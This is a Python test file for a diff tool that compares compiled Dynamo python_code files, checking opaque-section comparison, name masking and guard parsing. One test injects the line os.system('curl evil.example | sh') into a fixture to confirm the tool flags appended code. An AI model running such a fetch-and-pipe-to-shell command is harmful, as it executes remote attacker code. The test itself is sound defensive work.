"""`precompile diff` of python_code: every line of every section is compared, opaque sections included,
and only the names Dynamo mints per process are masked."""
from __future__ import annotations

import base64
import json
import pickle
import re
import shutil

import pytest

from test_inspect_helpers import FIXTURES, ROOT, run_cli

UUID_A = "190ca6a3_d853_4bed_8a0a_648b7d0369c7"
UUID_B = "0f3b2c1d_aaaa_4bbb_8ccc_123456789abc"
CODE = "x" * 400
"""Pads a made-up state to a realistic size: a short literal is compared as written, not fingerprinted."""


@pytest.fixture(autouse=True)
def _repo_root(monkeypatch):
    monkeypatch.chdir(ROOT)


def _dynamo_rows() -> str:
    return (FIXTURES / "v1/dynamo_rows.py").read_text(encoding="utf-8")


def _with_opaque_state(source: str, state: bytes) -> str:
    """The source with its `_dynamo_state` literal replaced by `state`, chunked as the renderer writes it."""
    encoded = base64.b64encode(state).decode()
    chunks = "".join(f"    {encoded[i:i + 100]!r}\n" for i in range(0, len(encoded), 100))
    edited, count = re.subn(r"(?s)\n_dynamo_state = \(\n.*?\n\)\n", lambda _: f"\n_dynamo_state = (\n{chunks})\n", source)
    assert count == 1
    return edited


def _diff(capsys, tmp_path, a: str, b: str) -> tuple[int, str]:
    """Diff two python_code files alone (no cache beside them, so only their code is compared)."""
    (tmp_path / "a.py").write_text(a, encoding="utf-8")
    (tmp_path / "b.py").write_text(b, encoding="utf-8")
    rc, out, err = run_cli(capsys, ["diff", str(tmp_path / "a.py"), str(tmp_path / "b.py")])
    assert "Traceback" not in out + err
    return rc, out


def test_code_added_to_an_opaque_section_is_a_difference(capsys, tmp_path):
    source = _dynamo_rows()
    edited, count = re.subn(r"\n\)\n", "\n)\nimport os\nos.system('curl evil.example | sh')\n", source, count=1)
    assert count == 1
    rc, out = _diff(capsys, tmp_path, source, edited)
    assert rc == 1
    assert "  section opaque-state (changed)" in out
    assert "    +import os" in out and "    +os.system('curl evil.example | sh')" in out


def test_a_changed_character_of_the_opaque_literal_is_a_difference(capsys, tmp_path):
    source = _dynamo_rows()
    chunk = re.search(r"\n    '([A-Za-z0-9+/]{100})'\n", source).group(1)
    flipped = chunk[:50] + ("A" if chunk[50] != "A" else "B") + chunk[51:]
    rc, out = _diff(capsys, tmp_path, source, source.replace(chunk, flipped, 1))
    assert rc == 1 and "  section opaque-state (changed)" in out


def test_pickled_state_differing_only_in_minted_names_diffs_equal(capsys, tmp_path):
    source = _dynamo_rows()
    state_a = pickle.dumps({"graph": f"__compiled_fn_3_{UUID_A}", "resume": "__resume_at_20_2", "code": CODE}, protocol=4)
    state_b = pickle.dumps({"graph": f"__compiled_fn_15_{UUID_B}", "resume": "__resume_at_20_11", "code": CODE}, protocol=4)
    rc, out = _diff(capsys, tmp_path, _with_opaque_state(source, state_a), _with_opaque_state(source, state_b))
    assert (rc, out.splitlines()[-1]) == (0, "verdict: equal")


def test_pickled_state_differing_in_anything_else_is_a_difference(capsys, tmp_path):
    source = _dynamo_rows()
    state_a = pickle.dumps({"graph": f"__compiled_fn_3_{UUID_A}", "call": "print", "code": CODE}, protocol=4)
    state_b = pickle.dumps({"graph": f"__compiled_fn_3_{UUID_A}", "call": "os.system", "code": CODE}, protocol=4)
    rc, out = _diff(capsys, tmp_path, _with_opaque_state(source, state_a), _with_opaque_state(source, state_b))
    assert rc == 1
    assert "    -    <base64 pickle, fingerprint with per-process names masked " in out


def test_a_minted_name_in_a_code_line_is_masked_and_nothing_else_is(capsys, tmp_path):
    source = (FIXTURES / "v1/mlp.py").read_text(encoding="utf-8")
    line = "_graph = namespace['__compiled_fn_{}'] if sha256(blob) == '{}' else None\n"
    a = source + line.format(f"3_{UUID_A}", "a" * 64)
    rc, _ = _diff(capsys, tmp_path, a, source + line.format(f"15_{UUID_B}", "a" * 64))
    assert rc == 0
    rc, out = _diff(capsys, tmp_path, a, source + line.format(f"3_{UUID_A}", "b" * 64))
    assert rc == 1 and f"+_graph = namespace['__compiled_fn_<n>_<uuid>'] if sha256(blob) == '{'b' * 64}' else None" in out


def test_a_guard_change_after_form_feeds_is_a_guards_difference(tmp_path, capsys):
    """Found by a hostile review: guard functions were read from lines split by str.splitlines, which
    also breaks at a form feed; with a comment of form feeds above guards_0_0 the function's text (the
    key its reading is remembered by) ended lines early, and a change to its last check read as the
    other release's."""
    source = (FIXTURES / "v1/dynamo_lowered.py").read_text(encoding="utf-8")
    at = source.index("def guards_0_0(")
    a = source[:at] + "# " + "\x0c" * 8 + "\n" + source[at:]
    last_check = "if not (G['torch']._dynamo is _by_name['torch._dynamo:'])"
    assert a.count(last_check) == 1
    for name, text in (("a", a), ("b", a.replace(last_check, "if not (True)"))):
        (tmp_path / f"{name}.py").write_text(text, encoding="utf-8")
        shutil.copy(FIXTURES / "v1/dynamo_lowered.cache", tmp_path / f"{name}.cache")
    rc, out, _ = run_cli(capsys, ["diff", "--fail-on", "guards", str(tmp_path / "a"), str(tmp_path / "b")])
    assert rc == 1 and "guards" in out.splitlines()[-1], out


def test_a_guard_names_the_line_behind_its_own_label_not_one_it_prefixes(tmp_path, capsys):
    """Found by a hostile review: the origin was taken from the first label the slot's label prefixes
    ('DEFAULT_DEVICE (decoy)') before its own."""
    source = (FIXTURES / "v1/dynamo_lowered.py").read_text(encoding="utf-8")
    own = "        failing = 'DEFAULT_DEVICE'\n"
    assert source.count(own) >= 1
    decoy = ("        failing = 'DEFAULT_DEVICE (decoy)'  # decoy.py:1 in f\n        if not (True):\n"
             "            return failing\n        failing = 'DEFAULT_DEVICE'  # real.py:2 in g\n")
    (tmp_path / "x.py").write_text(source.replace(own, decoy, 1), encoding="utf-8")
    shutil.copy(FIXTURES / "v1/dynamo_lowered.cache", tmp_path / "x.cache")
    rc, out, _ = run_cli(capsys, ["guards", "--json", str(tmp_path / "x")])
    slots = [slot for frame in json.loads(out)["guards"]["frames"] for slot in frame["slots"]
             if slot["guard_type"] == "DEFAULT_DEVICE" and slot["status"] == "kept"]
    assert slots and slots[0]["origin"] == "real.py:2 in g", slots
